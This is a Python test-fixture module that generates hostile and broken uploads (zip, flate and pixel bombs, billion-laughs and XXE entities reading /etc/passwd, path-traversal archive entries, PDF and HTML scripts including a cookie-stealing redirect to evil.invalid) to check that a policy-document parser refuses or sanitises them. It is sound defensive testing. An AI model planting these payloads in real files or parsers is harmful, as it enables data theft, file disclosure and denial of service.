"""A catalogue of hostile and broken input files, each with the outcome policykb must give.

`CATALOGUE` maps a file name to (maker, expected): the maker writes the file into a folder; the
expectation is either `Refused(reason)` — a clear error whose message contains `reason`, nothing
written — or `Accepted(check)` — the document is stored and `check(document)` holds. The same
catalogue runs through the command line and the HTTP upload (tests/test_hostile.py).
"""

from __future__ import annotations

import io
import os
import shutil
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from PIL import Image, ImageDraw
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from render import cjk_font, convert_with_libreoffice, render_docx, render_official_pdf, render_ofd

DATA = Path(__file__).resolve().parent / "data"
ROOT = DATA.parent.parent
SEED = ROOT / "corpus" / "seed" / "武汉市减污降碳协同增效实施方案.txt"
PLAN_LINES = [
    "关于推进社区垃圾分类工作的实施方案",
    "一、重点任务",
    "（一）推进垃圾分类。在全市社区设置分类投放点，到2025年底前分类投放点覆盖率达到90%。（市城管执法委牵头，市生态环境局配合）",
    "（二）加强宣传教育。开展垃圾分类进社区宣传活动。（市教育局负责）",
]
PLAN_TEXT = "\n".join(PLAN_LINES) + "\n"
PLAN_TITLE = PLAN_LINES[0]


@dataclass(frozen=True)
class Refused:
    reason: str  # a phrase the one-line error must contain
    status: int = 422  # the HTTP status of the upload


@dataclass(frozen=True)
class Accepted:
    check: Callable  # (Document) -> bool
    title: str = PLAN_TITLE


# -- PDFs ------------------------------------------------------------------------------------------

def text_pdf(path: Path, **options) -> Path:
    """A small text PDF (reportlab canvas options such as encrypt= apply)."""
    pdf = canvas.Canvas(str(path), pagesize=A4, **options)
    pdf.setFont(cjk_font(), 12)
    for row, line in enumerate(PLAN_LINES):
        pdf.drawString(40, 780 - 24 * row, line[:44])
    pdf.save()
    return path


def official_pdf(path: Path, repeats: int = 1) -> Path:
    """The plan printed in the official layout; with `repeats`, its first measure that many times."""
    return render_official_pdf([*PLAN_LINES, *[PLAN_LINES[2]] * (repeats - 1)], path, PLAN_TITLE)


def scanned_pdf(path: Path) -> Path:
    image = Image.new("L", (600, 800), 255)
    draw = ImageDraw.Draw(image)
    for row in range(40, 760, 30):
        draw.line((40, row, 560, row + 3), fill=0, width=8)  # ink where text would be
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    pdf = canvas.Canvas(str(path), pagesize=A4)
    pdf.drawImage(canvas.ImageReader(io.BytesIO(buffer.getvalue())), 0, 0, *A4)
    pdf.save()
    return path


def drawing_only_pdf(path: Path) -> Path:
    pdf = canvas.Canvas(str(path), pagesize=A4)
    for row in range(40, 760, 30):
        pdf.line(40, row, 560, row + 3)
    pdf.save()
    return path


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct cross-reference table."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def flate_bomb_pdf(path: Path) -> Path:
    """One page whose content stream inflates to 300 MB of spaces from 300 KB."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    stream = b"".join(compressor.compress(chunk) for _ in range(300)) + compressor.flush()
    path.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]))
    return path


def glyph_bomb_pdf(path: Path, glyphs: int = 400_000) -> Path:
    """A 1 KB page whose one text-show draws `glyphs` glyphs (pdfplumber: an object of kilobytes each)."""
    content = b"BT /F1 1 Tf 10 10 Td (" + b"A" * glyphs + b") Tj ET"
    stream = zlib.compress(content, 9)
    path.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]))
    return path


def page_loop_pdf(path: Path) -> Path:
    """A page tree whose node lists itself as its own kid."""
    path.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    ]))
    return path


def zero_pages_pdf(path: Path) -> Path:
    path.write_bytes(raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))
    return path


def javascript_pdf(path: Path) -> Path:
    """Real text plus an OpenAction running JavaScript: the text is read, the script ignored."""
    official_pdf(path)
    data = path.read_bytes().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript "
                                     b"/JS (app.alert\\(1\\)) >>", 1)
    path.write_bytes(data)
    return path


# -- scans and images (OCR) -------------------------------------------------------------------------

def plan_image(path: Path, dpi: int = 150) -> Image.Image:
    """The small plan's official-style page as a scanned image (pdfium at `dpi`)."""
    import pypdfium2

    document = pypdfium2.PdfDocument(str(official_pdf(path.with_suffix(".page.pdf"))))
    image = document[0].render(scale=dpi / 72).to_pil().convert("L")
    document.close()
    return image


def scanned_plan_pdf(path: Path) -> Path:
    """The small plan as an image-only PDF: what a scanner makes of it."""
    buffer = io.BytesIO()
    plan_image(path).save(buffer, format="JPEG", quality=75)
    pdf = canvas.Canvas(str(path), pagesize=A4)
    pdf.drawImage(canvas.ImageReader(buffer), 0, 0, *A4)
    pdf.save()
    return path


def many_scanned_pages_pdf(path: Path, pages: int = 301) -> Path:
    """An image-only PDF of 301 pages (one small image drawn on every page): over the page limit."""
    buffer = io.BytesIO()
    Image.new("L", (60, 80), 255).save(buffer, format="PNG")
    pdf = canvas.Canvas(str(path), pagesize=A4)
    image = canvas.ImageReader(buffer)
    for _ in range(pages):
        pdf.drawImage(image, 0, 0, *A4)
        pdf.showPage()
    pdf.save()
    return path


def noise_png(path: Path) -> None:
    """A page of pure noise (150 dpi A4): OCR finds no text in it."""
    import numpy as np

    Image.fromarray(np.random.default_rng(13).integers(0, 256, (1754, 1240), dtype=np.uint8)).save(path)


def pixel_bomb_png(path: Path) -> None:
    """A 1-bit PNG of 40,000 × 40,000 pixels (1.6 billion) that compresses to a few hundred kilobytes."""
    import struct

    width = height = 40_000
    row = b"\0" + b"\0" * (width // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
                     + chunk(b"IDAT", data) + chunk(b"IEND", b""))


def many_frames_tiff(path: Path) -> None:
    """A TIFF of 301 tiny blank pages: over the page limit."""
    frames = [Image.new("L", (8, 8), 255) for _ in range(301)]
    frames[0].save(path, save_all=True, append_images=frames[1:])


# -- OFD -------------------------------------------------------------------------------------------

def plan_ofd(path: Path) -> Path:
    return render_ofd(official_pdf(path.with_suffix(".page.pdf")), path)


def rewritten_ofd(path: Path, add: dict[str, bytes]) -> Path:
    base = plan_ofd(path.with_name(path.stem + ".base.ofd"))
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        for name, data in add.items():
            target.writestr(name, data)
    base.unlink()
    return path


def ten_thousand_pages_ofd(path: Path) -> None:
    """An OFD whose Document.xml lists 10,000 pages (each pointing at the one content file there is)."""
    namespace = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    pages = "".join(f'<ofd:Page ID="{n + 10}" BaseLoc="Pages/Page_0/Content.xml"/>' for n in range(10_000))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("OFD.xml", f'<ofd:OFD {namespace} Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>'
                                    "Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>")
        archive.writestr("Doc_0/Document.xml", f"<ofd:Document {namespace}><ofd:CommonData><ofd:PageArea>"
                                               "<ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox></ofd:PageArea>"
                                               f"</ofd:CommonData><ofd:Pages>{pages}</ofd:Pages></ofd:Document>")
        archive.writestr("Doc_0/Pages/Page_0/Content.xml", f"<ofd:Page {namespace}><ofd:Content/></ofd:Page>")


# -- .doc .wps .rtf .odt (LibreOffice) -------------------------------------------------------------

HAS_LIBREOFFICE = shutil.which("soffice") is not None


def converted_plan(suffix: str) -> Callable[[Path], None]:
    """The small plan's DOCX converted by LibreOffice to `suffix`, under the catalogue's name."""
    def make(path: Path) -> None:
        folder = path.parent / f"{path.stem}.lo.d"
        folder.mkdir()
        converted = convert_with_libreoffice(good_docx(folder / "plan.docx"), suffix, folder)
        shutil.move(converted, path)
        shutil.rmtree(folder)
    return make


def office(expected: Refused | Accepted) -> Refused | Accepted:
    """What a word-processor file gives: `expected` with LibreOffice, the package named without it."""
    return expected if HAS_LIBREOFFICE else Refused("libreoffice-writer-nogui", 415)


# -- DOCX ------------------------------------------------------------------------------------------

def good_docx(path: Path) -> Path:
    return render_docx(PLAN_LINES, path, "页眉")


def rewritten_docx(path: Path, replace: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> Path:
    """A copy of a good DOCX with some entries replaced (None drops one) and some added."""
    base = good_docx(path.with_name(path.stem + ".base.docx"))
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in replace:
                target.writestr(item, source.read(item))
            elif replace[item.filename] is not None:
                target.writestr(item.filename, replace[item.filename])
        for name, data in (add or {}).items():
            target.writestr(name, data)
    base.unlink()
    return path


def document_xml(body: str, doctype: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
            f"{body}</w:body></w:document>").encode()


def paragraphs_xml(lines: list[str]) -> str:
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in lines)


def zip_bomb_docx(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w") as entry:
            for _ in range(40):
                entry.write(b"\0" * 2**20)
    return path


def inflated_xml_docx(path: Path, megabytes: int = 40) -> Path:
    """The plan, then numbered paragraphs until document.xml is `megabytes` MB: under the zip ratio check
    (about 20:1), over the bound on one XML part."""
    filler, size, number = [], 0, 0
    while size < megabytes * 2**20:
        number += 1
        filler.append(f"<w:p><w:r><w:t>第{number}段补充说明</w:t></w:r></w:p>")
        size += len(filler[-1].encode())
    return rewritten_docx(path, {"word/document.xml": document_xml(paragraphs_xml(PLAN_LINES) + "".join(filler))})


def paragraph_flood_docx(path: Path, paragraphs: int = 60_000) -> Path:
    """The plan and `paragraphs` empty paragraphs: 360 KB of XML, each costing python-docx an object."""
    return rewritten_docx(path, {"word/document.xml": document_xml(paragraphs_xml(PLAN_LINES) + "<w:p/>" * paragraphs)})


LAUGHS = ('<!DOCTYPE w:document [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>")
XXE = '<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


# -- text and HTML ---------------------------------------------------------------------------------

def sparse(size: int) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        with path.open("wb") as handle:
            handle.truncate(size)
    return make


def write(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def plan_with(*, inside: str = "", encoding: str = "utf-8") -> Callable[[Path], None]:
    """The small plan with `inside` inserted into its first measure."""
    text = PLAN_TEXT.replace("在全市社区", "在全市" + inside + "社区")
    return write(text.encode(encoding))


HTML_WITH_SCRIPTS = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{PLAN_TITLE}</title>
<script>document.location='http://evil.invalid/?'+document.cookie</script><style>body{{color:red}}</style></head>
<body onload="alert(1)"><nav>首页 &gt; 政策</nav><iframe src="javascript:alert(2)"></iframe>
<h1>{PLAN_TITLE}</h1><p>{PLAN_LINES[1]}</p><p>{PLAN_LINES[2]}<img src=x onerror="alert(3)"></p>
<p>{PLAN_LINES[3]}</p><a href="javascript:alert(4)">打印</a><noscript>请启用脚本</noscript></body></html>"""

# Unmatched end tags made the end-tag stack search quadratic: 20,000 of each took 13 s, these ~8 minutes.
UNMATCHED_END_TAGS_HTML = HTML_WITH_SCRIPTS.replace("<h1>", "<b>" * 100_000 + "</i>" * 100_000 + "<h1>")

DEEP_HTML = ("<html><body>" + "<div>" * 20_000 + "".join(f"<p>{line}</p>" for line in PLAN_LINES)
             + "</div>" * 20_000 + "</body></html>")


def long_line(path: Path) -> None:
    """A title, then the seed's text (markers and all) repeated on one 4 MB line."""
    text = SEED.read_text(encoding="utf-8").replace("\n", "")
    path.write_text(PLAN_TITLE + "\n" + text * max(1, 4 * 2**20 // len(text.encode())), encoding="utf-8")


MANY = 20_000


def many_markers(path: Path) -> None:
    """Twenty thousand responsibility markers (made the marker finder quadratic once)."""
    lines = [PLAN_TITLE, PLAN_LINES[1]] + [f"（{i}）开展第{i}项工作。（市教育局负责）" for i in range(1, MANY + 1)]
    path.write_text("\n".join(lines), encoding="utf-8")


def fifo(path: Path) -> None:
    os.mkfifo(path)


def has_clauses(count: int) -> Callable:
    return lambda document: len(document.clauses) >= count


def plan_parsed(document) -> bool:
    """The small plan came through whole: two measures, the first led by the 城管执法委."""
    measures = [clause for clause in document.clauses if clause.tasks]
    return (len(measures) == 2 and measures[0].tasks[0].departments[0].name == "市城管执法委"
            and measures[0].tasks[0].departments[0].role == "lead")


def every_marker_found(document) -> bool:
    return sum(len(clause.tasks) for clause in document.clauses) == MANY


def one_huge_line(document) -> bool:
    return document.title == PLAN_TITLE and sum(len(clause.tasks) for clause in document.clauses) > 1000


def no_entity_resolved(document) -> bool:
    return plan_parsed(document) and "root:" not in "".join(clause.text for clause in document.clauses)


def clean_text(document) -> bool:
    text = "".join(clause.text for clause in document.clauses)
    return plan_parsed(document) and not any(mark in text for mark in ("alert", "evil", "cookie", "<", "首页", "\x07"))


CATALOGUE: dict[str, tuple[Callable[[Path], object], Refused | Accepted]] = {
    # wrong or missing type
    "program.exe": (write(b"MZ\x90\x00binary"), Refused("不支持的文件类型", 415)),
    "old_word.doc": (write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512), office(Refused("另存为 .docx"))),
    "no_extension": (write(PLAN_TEXT.encode()), Refused("不支持的文件类型", 415)),
    "pdf_named.docx": (lambda p: p.write_bytes(text_pdf(p.with_suffix(".real.pdf")).read_bytes()),
                       Refused("不是有效的 DOCX")),
    "docx_named.pdf": (lambda p: p.write_bytes(good_docx(p.with_suffix(".real.docx")).read_bytes()), Refused("损坏")),
    "image_named.txt": (lambda p: Image.new("RGB", (64, 64), "red").save(p, format="PNG"), Refused("编码")),
    # empty
    "empty.txt": (write(b""), Refused("空文件")),
    "empty.pdf": (write(b""), Refused("空文件")),
    "empty.docx": (write(b""), Refused("空文件")),
    "blank.txt": (write(" \n\u3000\n\n\t".encode()), Refused("没有可读的正文")),
    "bom_only.txt": (write(b"\xef\xbb\xbf"), Refused("没有可读的正文")),
    "no_paragraphs.docx": (lambda p: rewritten_docx(p, {"word/document.xml": document_xml("")}),
                           Refused("没有可读的正文")),
    "script_only.html": (write("<html><script>alert(1)</script><nav>首页</nav></html>".encode()), Refused("没有可读的正文")),
    # PDF
    "encrypted.pdf": (lambda p: text_pdf(p, encrypt="secret"), Refused("已加密")),
    "truncated.pdf": (lambda p: p.write_bytes(text_pdf(p.with_suffix(".whole.pdf")).read_bytes()[:400]), Refused("损坏")),
    "garbage.pdf": (write(b"%PDF-1.7\n" + bytes(range(256)) * 20), Refused("损坏")),
    "header_only.pdf": (write(b"%PDF-1.4\n%%EOF\n"), Refused("损坏")),
    "image_only.pdf": (scanned_pdf, Refused("OCR 也未识别出文字")),
    "drawing_only.pdf": (drawing_only_pdf, Refused("没有文字层")),
    "zero_pages.pdf": (zero_pages_pdf, Refused("没有文字层")),
    "page_loop.pdf": (page_loop_pdf, Refused("没有文字层")),
    "flate_bomb.pdf": (flate_bomb_pdf, Refused("解压")),
    "glyph_bomb.pdf": (glyph_bomb_pdf, Refused("字形超过")),
    "many_pages.pdf": (lambda p: official_pdf(p, repeats=1500), Accepted(has_clauses(1500))),
    "javascript.pdf": (javascript_pdf, Accepted(plan_parsed)),
    # scans and images (OCR)
    "scanned_plan.pdf": (scanned_plan_pdf, Accepted(plan_parsed)),
    "plan.png": (lambda p: plan_image(p).save(p, dpi=(150, 150)), Accepted(plan_parsed)),
    "plan.jpg": (lambda p: plan_image(p, 200).save(p, format="JPEG", quality=70), Accepted(plan_parsed)),
    "noise.png": (noise_png, Refused("OCR 未识别出文字")),
    "pixel_bomb.png": (pixel_bomb_png, Refused("解压炸弹")),
    "many_frames.tiff": (many_frames_tiff, Refused("超过上限 300 页")),
    "many_scanned_pages.pdf": (many_scanned_pages_pdf, Refused("超过上限 300 页")),
    "not_an_image.bmp": (write(b"BM" + b"\xff" * 64), Refused("图像文件损坏")),
    # OFD
    "plan.ofd": (plan_ofd, Accepted(plan_parsed)),
    "traversal.ofd": (lambda p: rewritten_ofd(p, {"../../evil.txt": b"escaped"}), Refused("越界路径")),
    "ten_thousand_pages.ofd": (ten_thousand_pages_ofd, Refused("超过上限 300 页")),
    "zip_bomb.ofd": (zip_bomb_docx, Refused("zip 炸弹")),
    "not_a_zip.ofd": (write(b"PK\x03\x04 not an ofd"), Refused("不是有效的 OFD")),
    # .doc .wps .rtf .odt
    "plan.doc": (converted_plan("doc"), office(Accepted(plan_parsed))),
    # DOCX
    "zip_bomb.docx": (zip_bomb_docx, Refused("zip 炸弹")),
    "inflated_xml.docx": (inflated_xml_docx, Refused("每个 XML 部件")),
    "paragraph_flood.docx": (paragraph_flood_docx, Refused("超出可处理的上限")),
    "traversal.docx": (lambda p: rewritten_docx(p, {}, {"../../evil.txt": b"escaped"}), Refused("越界路径")),
    "absolute_entry.docx": (lambda p: rewritten_docx(p, {}, {"/tmp/evil.txt": b"escaped"}), Refused("越界路径")),
    "not_a_zip.docx": (write(b"PK\x03\x04 this is not really a zip"), Refused("不是有效的 DOCX")),
    "truncated.docx": (lambda p: p.write_bytes(good_docx(p.with_suffix(".whole.docx")).read_bytes()[:1500]),
                       Refused("不是有效的 DOCX")),
    "no_document_xml.docx": (lambda p: rewritten_docx(p, {"word/document.xml": None}), Refused("无法打开 DOCX")),
    "malformed_xml.docx": (lambda p: rewritten_docx(p, {"word/document.xml": b"<w:document><w:body><w:p>"}),
                           Refused("无法打开 DOCX")),
    "billion_laughs.docx": (lambda p: rewritten_docx(p, {"word/document.xml": document_xml(
        paragraphs_xml([*PLAN_LINES[:2], "&i;"]), LAUGHS)}), Refused("无法打开 DOCX")),
    "xxe.docx": (lambda p: rewritten_docx(p, {"word/document.xml": document_xml(
        paragraphs_xml([*PLAN_LINES, "&secret;"]), XXE)}), Accepted(no_entity_resolved)),
    "password_protected.docx": (write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096), Refused("加密")),
    "external_links.docx": (lambda p: rewritten_docx(p, {}, {"word/_rels/extra.xml.rels": (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="http://evil.invalid/x.png" TargetMode="External"/></Relationships>')}), Accepted(plan_parsed)),
    # text encodings and characters
    "gbk.txt": (write((DATA / "guofa_2019_3_gbk.txt").read_bytes()),
                Accepted(has_clauses(10), "国务院关于促进综合保税区高水平开放高质量发展的若干意见")),
    "big5.txt": (write((DATA / "seed_big5.txt").read_bytes()), Accepted(has_clauses(20), "武漢市減污降碳協同增效實施方案")),
    "utf16.txt": (write(b"\xff\xfe" + PLAN_TEXT.encode("utf-16-le")), Accepted(plan_parsed)),
    "mislabelled_gbk.html": (write(f'<html><head><meta charset="gbk"></head><body>{HTML_WITH_SCRIPTS}</body></html>'
                                   .encode()), Accepted(clean_text)),
    "mislabelled_latin1.html": (write(HTML_WITH_SCRIPTS.replace('charset="utf-8"', 'charset="iso-8859-1"').encode()),
                                Accepted(clean_text)),
    "undecodable.txt": (write(bytes([0x81, 0xFF, 0xFE, 0x80, 0x00, 0xC3]) * 300), Refused("编码")),
    "nul_bytes.txt": (write(PLAN_TEXT.encode().replace(b"\n", b"\0\0\0\n") * 50), Refused("控制字符")),
    "control_flood.txt": (write(bytes(range(1, 9)) * 2000 + PLAN_TEXT.encode()), Refused("控制字符")),
    "few_controls.txt": (plan_with(inside="\x07\x1b"), Accepted(clean_text)),
    "bidi_zero_width.txt": (plan_with(inside="\u202e\u200b\u200d\ufeff"), Accepted(plan_parsed)),
    "long_line.txt": (long_line, Accepted(one_huge_line)),
    "twenty_thousand_markers.txt": (many_markers, Accepted(every_marker_found)),
    "huge.txt": (sparse(200 * 2**20), Refused("超过上限", 413)),
    # HTML and markdown
    "scripts.html": (write(HTML_WITH_SCRIPTS.encode()), Accepted(clean_text)),
    "deeply_nested.html": (write(DEEP_HTML.encode()), Accepted(plan_parsed)),
    "unmatched_end_tags.html": (write(UNMATCHED_END_TAGS_HTML.encode()), Accepted(clean_text)),
    "script_in.md": (write(f"# {PLAN_TITLE}\n\n<script>alert(1)</script>\n\n".encode() + PLAN_TEXT.encode()),
                     Accepted(plan_parsed)),
}

# Files only a command line can be given (an upload is always a regular file's bytes).
CLI_ONLY = {
    "named_pipe.txt": (fifo, Refused("不是普通文件")),
    "dangling_link.txt": (lambda p: p.symlink_to(p.with_name("gone.txt")), Refused("文件不存在")),
}


def make(name: str, folder: Path, table: dict = CATALOGUE) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    table[name][0](path)
    for leftover in folder.glob(f"{path.stem}.*.*"):  # the intermediate files some makers write
        leftover.unlink()
    return path
